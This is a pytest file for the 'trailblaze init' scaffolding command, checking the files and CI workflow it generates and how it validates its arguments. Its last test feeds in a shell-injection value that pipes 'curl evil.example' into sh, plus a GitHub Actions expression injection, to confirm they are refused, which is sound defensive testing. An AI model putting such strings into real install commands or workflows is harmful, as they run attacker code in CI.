"""`trailblaze init`: the scaffolded trail validates and replays, the workflow is a sharded matrix with
a merge job, and an existing file is never overwritten."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.cli import trailblaze

FILES = ["trails/example.trail.yaml", "conftest.py", "pyproject.toml", ".github/workflows/trailblaze.yml", ".gitignore"]


def _tree(root: Path) -> dict[str, tuple[bytes, int]]:
    return {
        str(p.relative_to(root)): (p.read_bytes(), p.stat().st_mtime_ns)
        for p in root.rglob("*")
        if p.is_file()
    }


def _steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return list(job["steps"])


@pytest.mark.slow
def test_init_scaffolds_a_project_that_validates_replays_and_is_left_alone(tmp_path: Path) -> None:
    project = tmp_path / "app"
    done = trailblaze("init", str(project), "--app-id", "dev.trailblaze.demo", "--shards", "3")
    assert done.returncode == 0, done.stderr
    assert [line.split()[1] for line in done.stdout.splitlines()[:5]] == [str(project / f) for f in FILES]
    assert all(line.startswith("created ") for line in done.stdout.splitlines()[:5])
    # each replay leaves ~2 MB under .trailblaze/runs/: kept out of git from the start
    assert ".trailblaze/\n" in (project / ".gitignore").read_text()

    checked = trailblaze("validate", str(project / "trails"))
    assert checked.returncode == 0 and "1 file checked, all valid" in checked.stdout, checked.stdout
    # The example trail runs as scaffolded (here on the simulated phone, whose app is the demo app).
    replayed = trailblaze("replay", str(project / "trails"), "--device", "sim:android",
                          "--run-dir", str(tmp_path / "run"))  # fmt: skip
    assert replayed.returncode == 0 and "1 trail: 1 passed" in replayed.stdout, (
        replayed.stdout + replayed.stderr
    )

    # the workflow: an emulator job per shard and a merge job (tests/cli/test_ci_workflow.py runs them)
    workflow = yaml.safe_load((project / ".github/workflows/trailblaze.yml").read_text())
    assert set(workflow["jobs"]) == {"android", "report"}
    android, report = workflow["jobs"]["android"], workflow["jobs"]["report"]
    assert android["strategy"]["matrix"]["shard"] == [1, 2, 3]
    (emulator,) = [s for s in _steps(android) if str(s.get("uses", "")).startswith("reactivecircus/")]
    assert emulator["with"]["script"].startswith("trailblaze replay trails/")
    assert "--shard ${{ matrix.shard }}/3" in emulator["with"]["script"]
    uploads = [s for s in _steps(android) if str(s.get("uses", "")).startswith("actions/upload-artifact")]
    assert uploads and uploads[0]["if"] == "always()" and uploads[0]["with"]["path"] == "trailblaze-run/"
    assert report["needs"] == ["android"] and report["if"] == "always()"
    assert any(str(s.get("run", "")).startswith("trailblaze report --merge shards/*") for s in _steps(report))
    final = [s for s in _steps(report) if str(s.get("uses", "")).startswith("actions/upload-artifact")]
    assert final[0]["with"]["path"].split() == ["report.html", "report_files/", "junit.xml"]  # the page's pictures

    before = _tree(project)
    again = trailblaze("init", str(project), "--app-id", "dev.trailblaze.demo", "--shards", "3")
    assert again.returncode == 0, again.stderr
    assert [line for line in again.stdout.splitlines() if line.startswith("skipped")] == [
        f"skipped {project / f} (exists, left as it is)"
        + (": add these pytest settings to it:" if f == "pyproject.toml" else "")
        for f in FILES
    ]
    assert _tree(project) == before  # not a byte, not an mtime changed


def test_init_prints_the_settings_for_an_existing_pyproject(tmp_path: Path) -> None:
    mine = '[project]\nname = "mine"\n'
    (tmp_path / "pyproject.toml").write_text(mine)
    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--platform", "ios")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "pyproject.toml").read_text() == mine
    assert '    trailblaze_app = "com.example.app"' in done.stdout
    assert '    trailblaze_devices = ["ios"]' in done.stdout
    trail = yaml.safe_load((tmp_path / "trails" / "example.trail.yaml").read_text())
    assert trail["trail"][0]["recording"] == {
        "ios": [{"launchApp": {"appId": "com.example.app", "launchMode": "CLEAR_STATE"}}]
    }


def test_init_says_what_to_add_to_an_existing_gitignore(tmp_path: Path) -> None:
    (tmp_path / ".gitignore").write_text("node_modules/\n")
    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / ".gitignore").read_text() == "node_modules/\n"
    assert f"skipped {tmp_path / '.gitignore'} (exists, left as it is): add these lines to it:\n    .trailblaze/\n" in (
        done.stdout
    )


def test_init_refuses_what_is_not_an_app_id(tmp_path: Path) -> None:
    done = trailblaze("init", str(tmp_path), "--app-id", 'x"\ny')
    assert (
        done.returncode == 2
        and done.stderr.startswith("error: --app-id ")
        and "e.g. com.example.app" in done.stderr
    )
    assert not any(tmp_path.iterdir())


def test_init_with_ios_says_the_next_steps_for_ios_too(tmp_path: Path) -> None:
    """Issue 40 item 8: `--ios` adds an iOS job, so the next steps say how to record for iOS, and the
    example trail launches the app there too (the iOS job replays it)."""
    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--ios")
    assert done.returncode == 0, done.stderr
    example = tmp_path / "trails" / "example.trail.yaml"
    assert [line for line in done.stdout.splitlines() if line.startswith("next")] == [
        f"next: trailblaze validate {tmp_path / 'trails'}; record steps with "
        f"`trailblaze record {example} --device android`",
        "next for iOS: start WebDriverAgent on a simulator or iPhone and record the same steps there: "
        f"`trailblaze record {example} --device ios` (docs/guides/real-devices.md)",
    ]
    trail = yaml.safe_load(example.read_text())
    launch = [{"launchApp": {"appId": "com.example.app", "launchMode": "CLEAR_STATE"}}]
    assert trail["trail"][0]["recording"] == {"android": launch, "ios": launch}
    alone = trailblaze("init", str(tmp_path / "plain"), "--app-id", "com.example.app")
    assert "next for iOS" not in alone.stdout


def _installs(workflow: Path) -> dict[str, str]:
    """Each job's `pip install` line."""
    jobs = yaml.safe_load(workflow.read_text())["jobs"]
    return {
        name: step["run"]
        for name, job in jobs.items()
        for step in job["steps"]
        if step.get("name") == "Install trailblaze"
    }


@pytest.mark.parametrize(
    ("spec", "android", "ios", "report"),
    [
        ("0.2.0", '"trailblaze[android]==0.2.0"', '"trailblaze[ios]==0.2.0"', '"trailblaze==0.2.0"'),
        (
            "dist/trailblaze-0.2.0-py3-none-any.whl",
            '"dist/trailblaze-0.2.0-py3-none-any.whl[android]" "dist/trailblaze_android-0.2.0-py3-none-any.whl"',
            '"dist/trailblaze-0.2.0-py3-none-any.whl[ios]" "dist/trailblaze_ios-0.2.0-py3-none-any.whl"',
            '"dist/trailblaze-0.2.0-py3-none-any.whl"',
        ),
        (  # before a release the driver comes from the same repository, not the index
            "git+https://github.com/you/trailblaze@main",
            '"trailblaze @ git+https://github.com/you/trailblaze@main" '
            '"trailblaze-android @ git+https://github.com/you/trailblaze@main#subdirectory=drivers/android"',
            '"trailblaze @ git+https://github.com/you/trailblaze@main" '
            '"trailblaze-ios @ git+https://github.com/you/trailblaze@main#subdirectory=drivers/ios"',
            '"trailblaze @ git+https://github.com/you/trailblaze@main"',
        ),
        (
            "https://example.com/trailblaze-0.2.0-py3-none-any.whl",
            '"trailblaze[android] @ https://example.com/trailblaze-0.2.0-py3-none-any.whl"',
            '"trailblaze[ios] @ https://example.com/trailblaze-0.2.0-py3-none-any.whl"',
            '"trailblaze @ https://example.com/trailblaze-0.2.0-py3-none-any.whl"',
        ),
    ],
    ids=["version", "wheel", "vcs", "url"],
)
def test_init_pip_spec_sets_what_the_workflow_installs(
    tmp_path: Path, spec: str, android: str, ios: str, report: str
) -> None:
    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--ios", "--pip-spec", spec)
    assert done.returncode == 0, done.stderr
    installs = _installs(tmp_path / ".github" / "workflows" / "trailblaze.yml")
    assert installs == {
        "android": f"pip install {android}",
        "ios": f"pip install {ios}",
        "report": f"pip install {report}",
    }
    assert "before the first release" not in done.stdout  # the spec chosen is what installs


def test_init_installs_this_version_without_pip_spec(tmp_path: Path) -> None:
    from trailblaze.__about__ import __version__

    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app")
    assert done.returncode == 0, done.stderr
    assert _installs(tmp_path / ".github" / "workflows" / "trailblaze.yml") == {
        "android": f'pip install "trailblaze[android]=={__version__}"',
        "report": f'pip install "trailblaze=={__version__}"',
    }
    # issue 48 item 8: until that version is on the index, init says what installs instead
    assert (
        f"note: the workflow installs trailblaze=={__version__} from PyPI; before the first release is there, "
        "run init again with --pip-spec git+https://github.com/YOU/trailblaze@main"
    ) in done.stdout


@pytest.mark.parametrize("spec", ['0.2" && curl evil.example | sh', "${{ github.event.issue.title }}", "not a spec", ""])
def test_init_refuses_a_pip_spec_it_cannot_write_safely(tmp_path: Path, spec: str) -> None:
    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--pip-spec", spec)
    assert done.returncode == 2, done.stdout
    assert done.stderr.startswith("error: --pip-spec ") and done.stderr.count("\n") == 1, done.stderr
    assert "git+https://" in done.stderr  # the forms it takes, with an example
    assert not any(tmp_path.iterdir())
